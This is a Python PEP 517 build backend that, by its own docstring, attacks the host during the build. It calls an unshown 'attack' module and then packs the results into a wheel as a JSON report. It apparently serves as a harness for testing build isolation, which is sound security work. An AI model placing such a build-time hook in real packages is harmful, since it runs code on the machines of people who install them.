"""A build backend (PEP 517) that attacks the host, then builds a valid wheel with a report."""

import json
import zipfile
from pathlib import Path

import attack

INFO = "attack-1.0.dist-info"
FILES = {
    f"{INFO}/METADATA": "Metadata-Version: 2.2\nName: attack\nVersion: 1.0\n",
    f"{INFO}/WHEEL": "Wheel-Version: 1.0\nGenerator: attack\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}


def build_wheel(folder, settings=None, metadata=None):
    files = FILES | {"attack_report.json": json.dumps(attack.run() or {})}
    files[f"{INFO}/RECORD"] = "".join(f"{name},,\n" for name in (*files, f"{INFO}/RECORD"))
    with zipfile.ZipFile(Path(folder, "attack-1.0-py3-none-any.whl"), "w") as wheel:
        for name, text in files.items():
            wheel.writestr(name, text)
    return "attack-1.0-py3-none-any.whl"
